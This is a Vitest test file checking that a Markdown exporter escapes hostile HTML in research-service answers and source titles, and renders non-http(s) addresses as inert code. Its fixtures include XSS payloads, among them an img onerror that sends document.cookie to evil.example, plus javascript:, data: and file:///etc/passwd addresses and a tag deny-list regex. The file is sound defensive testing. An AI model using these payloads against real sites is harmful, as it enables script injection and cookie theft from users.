// @vitest-environment node
// Hostile answers from a research service, exported to Markdown (src/main/notebook/export.ts):
// raw HTML in the answer and in source titles is escaped, and addresses that are not http(s) are
// written as inert code, so a Markdown viewer that renders HTML runs nothing. The answer's words stay.
import { describe, expect, it } from 'vitest';
import { renderJobMarkdown } from '../../src/main/notebook/export';
import type { JobDetail } from '../../src/shared/domain';
import { completedJob } from '../job-detail';

function job(content: string, results: JobDetail['results']): JobDetail {
  return completedJob({ id: '3f2a9c1e-0000-4000-8000-00000000beef', query: 'Hostile answer', createdAt: '2026-11-20T10:00:00.000Z', content, results });
}
const source = (citationIndex: number, title: string, url: string): JobDetail['results'][number] => ({ id: `r${citationIndex}`, title, url, citationIndex, highlights: [], hasContent: false });

/** Raw tags that must not survive into the exported Markdown (a backslash-escaped `\<` is inert text). */
const RAW_TAG = /(?<!\\)<(script|img|iframe|svg|a|object|embed|style|form|input|details|math)\b/i;

describe('hostile Markdown from the service, exported', () => {
  it.each([
    ['a script tag', 'Otters <script>alert(1)</script> eat urchins [1].'],
    ['an image with onerror', 'Kelp <img src=x onerror="fetch(`https://evil.example/`+document.cookie)"> grows [1].'],
    ['an iframe', 'See <iframe src="https://evil.example"></iframe> here [1].'],
    ['an svg with onload', 'Shape <svg onload=alert(1)></svg> [1].'],
    ['a closing-tag trick', 'Text </p><script>alert(1)</script> [1].'],
    ['an HTML link to javascript:', 'Click <a href="javascript:alert(1)">here</a> [1].'],
  ])('%s in the answer is escaped; the words stay', (_label, content) => {
    const markdown = renderJobMarkdown(job(content, [source(1, 'Otters', 'https://example.org/otters')]), null);
    expect(markdown).not.toMatch(RAW_TAG);
    expect(markdown).toMatch(/&lt;/);
    expect(markdown).toContain(content.split(' ')[0]!);
  });

  it.each([
    ['javascript:', 'javascript:alert(document.domain)'],
    ['JavaScript: in capitals', 'JaVaScRiPt:alert(1)'],
    ['data:', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='],
    ['file:', 'file:///etc/passwd'],
    ['vbscript:', 'vbscript:msgbox(1)'],
  ])('a %s source address is written as inert code, never as a link', (_label, url) => {
    const markdown = renderJobMarkdown(job('Claim [1].', [source(1, 'Source', url)]), null);
    const reference = markdown.split('## References')[1] ?? '';
    expect(reference).toContain(`\`${url}\``);
    expect(reference).not.toContain(`<${url}>`);
    expect(reference).not.toContain(`](${url}`);
  });

  it('a title carrying tags or link syntax is escaped, and a newline cannot start a new block', () => {
    const title = 'Report <img src=x onerror=alert(1)>](javascript:alert(1))\n# Injected heading';
    const markdown = renderJobMarkdown(job('Claim [1].', [source(1, title, 'https://example.org/r')]), null);
    expect(markdown).not.toMatch(RAW_TAG);
    expect(markdown).not.toMatch(/^# Injected heading/m);
    expect(markdown).toContain('\\<img');
    expect(markdown).toContain('<https://example.org/r>');
  });

  it('an address with spaces or angle brackets cannot close its autolink early', () => {
    const markdown = renderJobMarkdown(job('Claim [1].', [source(1, 'S', 'https://example.org/a b><script>alert(1)</script>')]), null);
    expect(markdown).not.toMatch(RAW_TAG);
  });
});
